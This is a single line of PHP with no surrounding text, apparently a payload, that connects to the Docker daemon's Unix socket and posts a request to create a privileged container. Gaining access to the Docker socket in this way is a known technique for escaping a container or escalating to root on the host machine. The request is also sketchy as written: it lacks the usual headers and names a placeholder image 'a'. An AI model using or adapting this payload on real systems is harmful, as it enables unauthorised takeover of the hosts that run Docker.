<?php $s=stream_socket_client('unix:///var/run/docker.sock');fwrite($s,"POST /containers/create HTTP/1.1\r\n\r\n".json_encode(['Image'=>'a','HostConfig'=>['Privileged'=>true]]));
